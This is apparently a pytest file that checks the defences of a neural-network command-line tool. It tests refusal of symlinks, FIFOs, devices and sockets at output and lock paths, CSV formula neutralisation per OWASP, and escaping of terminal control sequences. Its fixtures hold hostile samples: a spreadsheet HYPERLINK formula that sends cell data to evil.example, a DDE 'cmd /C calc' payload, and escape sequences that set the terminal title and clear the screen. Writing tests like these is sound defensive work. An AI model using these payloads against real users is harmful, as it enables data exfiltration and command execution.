"""Issue 23, items 1, 2, 4, 16 and 19: files scratchnet writes, and text it prints from a file.

Every hostile input is built here: a symbolic link, a FIFO, a character device or a socket where
scratchnet writes (refused with one line naming it, the thing and what it points to untouched), class
names that a spreadsheet would run as formulas, names that a terminal would obey, and an import
into the output of a run that holds its lock.
"""

from __future__ import annotations

import csv
import io
import os
import socket
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest
from subprocesses import ROOT, run_scratchnet
from test_first_use_outputs import config

import scratchnet
from scratchnet.builders import build_network
from scratchnet.cli.predict import csv_cell, predictions_csv
from scratchnet.core.architecture import mlp
from scratchnet.core.text import printable
from scratchnet.io.lock import lock_path_for, model_lock
from scratchnet.io.model import ModelWriteError, check_replaceable
from scratchnet.training.train import checkpoint_path_for, train

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="links, FIFOs and devices as on POSIX")

# Class k wins for the k-th one-hot row: each hostile name is predicted once, in this order.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-3",
    "-2+3",
    "\tTAB",
    "\rCR",
    "plain",
    "-1.5e3",
]
# The cells as OWASP's rule writes them, spelled out by hand: a ' in front and quoted, numbers kept.
EXPECTED_ROWS = [
    "row,label",
    '1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
    "2,\"'+cmd|' /C calc'!A0\"",
    '3,"\'@SUM(1+1)"',
    "4,-3",
    '5,"\'-2+3"',
    '6,"\'\tTAB"',
    '7,"\'\rCR"',
    "8,plain",
    "9,-1.5e3",
]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\n\u202e"  # a title, a cleared screen, a forged line, reversed text


def features_model(path: Path, names: list[str], dataset: str = "rows") -> Path:
    """A 9-feature model whose class k wins for the one-hot row k, with ``names`` as class names."""
    net = build_network(mlp([9, 9]), backend="vectorized", seed=0)
    net.set_params({"0.weight": 10 * np.eye(9, dtype=np.float32), "0.bias": np.zeros(9, dtype=np.float32)})
    scaling = {"kind": "features", "shape": [9], "mean": [0.0] * 9, "std": [1.0] * 9}
    scratchnet.save(net, path, metadata={"dataset": dataset, "class_names": names, "input": scaling})
    return path


def one_hot_rows(path: Path) -> Path:
    header = ",".join(f"f{k}" for k in range(9))
    rows = [",".join("1" if j == k else "0" for j in range(9)) for k in range(9)]
    path.write_text("\n".join([header, *rows]) + "\n")
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    """The model with :data:`HOSTILE_NAMES` and a CSV file of its nine one-hot rows."""
    return features_model(tmp_path / "m.json", HOSTILE_NAMES), one_hot_rows(tmp_path / "rows.csv")


def one_line_error(result: subprocess.CompletedProcess[str], *parts: str) -> str:
    """The single stderr line of a failed command, which holds each of ``parts``."""
    assert result.returncode == 1, result
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    for part in parts:
        assert part in lines[0], (part, lines[0])
    assert "Traceback" not in lines[0]
    return str(lines[0])


# ---- special files where scratchnet writes ----


def make_fifo(path: Path) -> str:
    os.mkfifo(path)
    return "a named pipe (FIFO)"


def make_device(path: Path) -> str:
    if os.geteuid() == 0:  # mknod needs root: the null device itself (c 1 3)
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        return "a character device"
    path.symlink_to(os.devnull)  # elsewhere a link to it, which is refused as a link
    return "a symbolic link"


def make_link(path: Path) -> str:
    victim = path.parent / f"victim-of-{path.name}.txt"
    victim.write_text("precious\n")
    path.symlink_to(victim)
    return "a symbolic link"


def make_socket(path: Path) -> str:
    server = socket.socket(socket.AF_UNIX)
    server.bind(os.fspath(path))
    server.close()  # the socket file stays
    return "a socket"


SPECIAL: dict[str, Callable[[Path], str]] = {
    "fifo": make_fifo,
    "device": make_device,
    "link": make_link,
    "socket": make_socket,
}


@pytest.fixture
def untouched(tmp_path: Path) -> Iterator[Callable[[Path], None]]:
    """Record special files as they are made (``watch(path)``); at the end, each is still what it was
    and every victim file a link points to still reads "precious"."""
    watched: dict[Path, int] = {}

    def watch(path: Path) -> None:
        watched[path] = os.lstat(path).st_mode

    yield watch
    for path, mode in watched.items():
        assert os.lstat(path).st_mode == mode, f"{path} was replaced"
    for victim in tmp_path.glob("victim-of-*"):
        assert victim.read_text() == "precious\n"
    assert not list(tmp_path.rglob("*.tmp")), "a temporary file was left"


@pytest.mark.parametrize("kind", SPECIAL)
def test_check_replaceable_names_every_kind_of_special_file(
    tmp_path: Path, kind: str, untouched: Callable[[Path], None]
) -> None:
    target = tmp_path / "out.csv"
    what = SPECIAL[kind](target)
    untouched(target)
    with pytest.raises(ModelWriteError) as caught:
        check_replaceable(target)
    assert str(caught.value).startswith(f"cannot write {target}: it is {what}, not a regular file")
    check_replaceable(tmp_path / "missing.csv")  # a path that does not exist, or a regular file, may be written
    (tmp_path / "regular.csv").write_text("old")
    check_replaceable(tmp_path / "regular.csv")


@pytest.mark.parametrize("kind", SPECIAL)
def test_predict_out_refuses_a_special_file(
    hostile: tuple[Path, Path], tmp_path: Path, kind: str, untouched: Callable[[Path], None]
) -> None:
    model, rows = hostile
    out = tmp_path / "predictions.csv"
    what = SPECIAL[kind](out)
    untouched(out)
    result = run_scratchnet("predict", str(model), "--csv", str(rows), "--out", str(out), timeout=60)
    one_line_error(result, f"cannot write {out}: it is {what}")
    assert result.stdout == ""  # refused before any prediction was made


def test_predict_out_dash_writes_the_csv_to_standard_output(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    model, rows = hostile
    result = run_scratchnet("predict", str(model), "--csv", str(rows), "--out", "-")
    assert result.returncode == 0, result.stderr
    expected = "\n".join(EXPECTED_ROWS) + "\n"  # not a terminal: the cells as the file has them
    assert result.stdout == expected.replace("\r", "\n")  # (read as text, the \r in row 7 is a line break)
    assert not (ROOT / "-").exists()


@pytest.mark.parametrize("kind", ["fifo", "device", "link"])
def test_export_refuses_a_special_file_at_any_file_it_writes(
    hostile: tuple[Path, Path], tmp_path: Path, kind: str, untouched: Callable[[Path], None]
) -> None:
    model, _ = hostile
    cases = [
        ("onnx", tmp_path / "m.onnx", tmp_path / "m.onnx"),
        ("safetensors", tmp_path / "m.safetensors", tmp_path / "m.safetensors"),
        ("pytorch", tmp_path / "script.py", tmp_path / "script.safetensors"),  # the weights beside the script
    ]
    for to, out, special in cases:
        what = SPECIAL[kind](special)
        untouched(special)
        result = run_scratchnet("export", str(model), "--to", to, "--out", str(out), timeout=60)
        one_line_error(result, f"cannot write {special}: it is {what}")
    assert not (tmp_path / "script.py").exists()  # the script was not written either


@pytest.mark.parametrize("suffix", [".json", ".npz"])
def test_import_and_save_refuse_a_link_at_either_file_of_the_pair(
    hostile: tuple[Path, Path], tmp_path: Path, suffix: str, untouched: Callable[[Path], None]
) -> None:
    model, _ = hostile
    exported = tmp_path / "m.safetensors"
    assert run_scratchnet("export", str(model), "--to", "safetensors", "--out", str(exported)).returncode == 0
    out = tmp_path / "imported.json"
    special = out.with_suffix(suffix)
    make_link(special)
    untouched(special)
    result = run_scratchnet("import", str(exported), "--out", str(out), timeout=60)
    one_line_error(result, f"cannot write {special}: it is a symbolic link")
    net = build_network(mlp([9, 9]), backend="vectorized", seed=0)
    with pytest.raises(ModelWriteError, match="it is a symbolic link, not a regular file"):
        scratchnet.save(net, out)


def test_train_refuses_a_fifo_at_its_output_instead_of_waiting_on_it(
    tmp_path: Path, untouched: Callable[[Path], None]
) -> None:
    out = tmp_path / "trained.json"
    make_fifo(out)  # reading it to see whose model it is would wait for a writer forever
    untouched(out)
    data = tmp_path / "no-data"
    data.mkdir()
    result = run_scratchnet("train", "--data-dir", str(data), "--epochs", "1", "--out", str(out), timeout=60)
    one_line_error(result, f"cannot write {out}: it is a named pipe (FIFO)")


def test_plot_refuses_a_link_at_its_output(
    hostile: tuple[Path, Path], tmp_path: Path, untouched: Callable[[Path], None]
) -> None:
    pytest.importorskip("matplotlib")
    model, _ = hostile
    out = tmp_path / "weights.png"
    make_link(out)
    untouched(out)
    result = run_scratchnet("plot", "weights", str(model), "--out", str(out), timeout=60)
    one_line_error(result, f"cannot write {out}: it is a symbolic link")


# ---- lock files ----


def test_a_link_at_the_lock_is_not_followed_and_its_target_is_untouched(
    tmp_path: Path, untouched: Callable[[Path], None]
) -> None:
    """The issue's repro: ``ln -s victim.txt out/sl.lock; scratchnet train ... --out out/sl.json``."""
    out = tmp_path / "out" / "sl.json"
    out.parent.mkdir()
    lock = lock_path_for(out)
    make_link(lock)
    untouched(lock)
    data = tmp_path / "no-data"
    data.mkdir()
    result = run_scratchnet("train", "--data-dir", str(data), "--epochs", "1", "--out", str(out), timeout=60)
    one_line_error(result, f"its lock file {lock} is a symbolic link")
    assert not out.exists()


@pytest.mark.parametrize("kind", ["fifo", "device", "dangling link", "hard link"])
def test_a_lock_that_is_not_a_lock_file_of_its_own_is_refused(
    tmp_path: Path, kind: str, untouched: Callable[[Path], None]
) -> None:
    out = tmp_path / "m.json"
    lock = lock_path_for(out)
    if kind == "dangling link":
        lock.symlink_to(tmp_path / "created-through-the-link")
        what = "a symbolic link"
    elif kind == "hard link":
        victim = tmp_path / "victim-of-lock.txt"
        victim.write_text("precious\n")
        os.link(victim, lock)
        what = "a hard link of another file"
    else:
        what = SPECIAL[kind](lock)
    untouched(lock)
    with pytest.raises(ModelWriteError) as caught, model_lock(out):
        pass
    assert str(caught.value) == (
        f"cannot write {out}: its lock file {lock} is {what}, not a lock file scratchnet made; it is left as it "
        "is: remove it and run again"
    )
    assert not (tmp_path / "created-through-the-link").exists()


def test_the_checkpoints_lock_is_not_followed_either(tmp_path: Path, untouched: Callable[[Path], None]) -> None:
    out = tmp_path / "m.json"
    lock = lock_path_for(checkpoint_path_for(out))
    make_link(lock)
    untouched(lock)
    with pytest.raises(ModelWriteError, match=f"its lock file {lock} is a symbolic link"):
        train(config(), data_dir=tmp_path / "no-data", out=out, log=lambda line: None)


# ---- item 19: every command that writes a model takes the lock ----


def test_import_is_refused_while_a_run_holds_the_lock_of_its_output(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    model, _ = hostile
    exported = tmp_path / "m.safetensors"
    assert run_scratchnet("export", str(model), "--to", "safetensors", "--out", str(exported)).returncode == 0
    out = tmp_path / "training.json"
    with model_lock(out, purpose="training"):  # as `scratchnet train --out training.json` holds it
        result = run_scratchnet("import", str(exported), "--out", str(out), timeout=60)
        assert not out.exists()
    one_line_error(result, f"{out} is being written by another run (pid {os.getpid()} since ")
    assert not out.exists() and not lock_path_for(out).exists()
    released = run_scratchnet("import", str(exported), "--out", str(out), timeout=60)  # released: it goes ahead
    assert released.returncode == 0, released.stderr
    assert out.exists() and not lock_path_for(out).exists()


# ---- item 4: formulas in the CSV of predictions ----


def test_predictions_csv_neutralises_formulas_and_keeps_numbers(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    model, rows = hostile
    out = tmp_path / "predictions.csv"
    result = run_scratchnet("predict", str(model), "--csv", str(rows), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert out.read_bytes().decode() == "\n".join(EXPECTED_ROWS) + "\n"
    with open(out, newline="") as handle:  # read back as a spreadsheet reads it: one text cell each
        labels = [row[1] for row in csv.reader(handle)][1:]
    assert labels == [name if name in ("-3", "plain", "-1.5e3") else "'" + name for name in HOSTILE_NAMES]


def test_csv_cell_follows_owasp() -> None:
    for formula in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "+", "=", "--1", "-1-", "- 1"):
        assert csv_cell(formula) == "\"'" + formula + '"'
    for number in ("-1", "+1", "-0.5", "-.5", "1e5", "-1E-3", "7", "1.", "+2.5e+10"):
        assert csv_cell(number) == number
    assert csv_cell("a,b") == '"a,b"' and csv_cell('say "hi"') == '"say ""hi"""' and csv_cell("cat") == "cat"
    # read back by Python's reader, each cell is one field holding the text with the ' in front
    row = next(csv.reader(io.StringIO(",".join(csv_cell(v) for v in ('=A1,"x"', "-3")))))
    assert row == ['\'=A1,"x"', "-3"]


# ---- item 16: text from a file, printed ----


def test_printable_escapes_what_repr_escapes_without_the_quotes() -> None:
    assert printable(ESCAPES) == "\\x1b]0;owned\\x07\\x1b[2J\\r\\n\\u202e"
    assert printable("T-shirt/top é 数字 it's a\\b") == "T-shirt/top é 数字 it's a\\b"  # printable text as it is
    assert printable("\x9b31m") == "\\x9b31m"  # the one-byte CSI of C1
    assert predictions_csv(["1"], ["\x1b[2J=x"], ("row", "label"), terminal=True) == b"row,label\n1,\\x1b[2J=x\n"


def assert_escaped(text: str) -> None:
    """``text`` holds :data:`ESCAPES` as escapes, and none of the characters themselves."""
    assert "\\x1b]0;owned\\x07\\x1b[2J\\r\\n\\u202e" in text, text
    assert not any(char in text for char in "\x1b\x07\r\u202e"), text


def test_predict_inspect_and_errors_escape_names_from_the_file(tmp_path: Path) -> None:
    names = [f"class{k}{ESCAPES}" for k in range(9)]
    model = features_model(tmp_path / "m.json", names, dataset=f"data{ESCAPES}")
    rows = one_hot_rows(tmp_path / "rows.csv")
    inspected = run_scratchnet("inspect", str(model))
    assert inspected.returncode == 0, inspected.stderr
    line = next(line for line in inspected.stdout.splitlines() if line.startswith("training: dataset"))
    assert_escaped(line)
    predicted = run_scratchnet("predict", str(model), "--csv", str(rows), "--out", str(tmp_path / "p.csv"))
    assert predicted.returncode == 0, predicted.stderr
    summary = predicted.stdout.splitlines()
    assert len(summary) == 2 and summary[1].startswith("predicted classes: class0\\x1b]0;owned")
    assert_escaped(summary[1])
    missing = tmp_path / f"missing{ESCAPES}.csv"
    failed = run_scratchnet("predict", str(model), "--csv", str(missing))
    assert_escaped(one_line_error(failed))


def test_evaluate_and_predict_index_escape_the_models_class_names(tmp_path: Path, data_dir: Path) -> None:
    net = build_network(mlp([784, 10]), backend="vectorized", seed=0)
    names = [f"digit{k}{ESCAPES}" for k in range(10)]
    model = tmp_path / "digits.json"
    scratchnet.save(net, model, metadata={"dataset": "mnist", "class_names": names})
    evaluated = run_scratchnet("evaluate", str(model), "--data-dir", str(data_dir))
    assert evaluated.returncode == 0, evaluated.stderr
    table = [line for line in evaluated.stdout.splitlines() if "owned" in line]
    assert len(table) == 20  # the per-class table's rows and the confusion matrix's
    for line in table:
        assert_escaped(line)
    shown = run_scratchnet("predict", str(model), "--index", "0", "--data-dir", str(data_dir))
    assert shown.returncode == 0, shown.stderr
    assert_escaped(next(line for line in shown.stdout.splitlines() if line.startswith("prediction:")))
    assert not any(char in shown.stdout for char in "\x1b\x07\r\u202e")


def test_train_escapes_the_names_of_its_data(tmp_path: Path) -> None:
    data = tmp_path / f"rows{ESCAPES}.csv"  # the run's lines name its data by the file's name
    data.write_text("a,b,label\n" + "".join(f"{k % 3},{k % 5},{'xy'[k % 2]}\n" for k in range(40)))
    out = tmp_path / "m.json"
    result = run_scratchnet("train", "--data", str(data), "--hidden", "4", "--epochs", "1", "--out", str(out))
    assert result.returncode == 0, result.stderr
    named = [line for line in result.stdout.splitlines() if "owned" in line]
    assert named, result.stdout
    for line in named:
        assert_escaped(line)
    assert not any(char in result.stdout for char in "\x1b\x07\u202e")
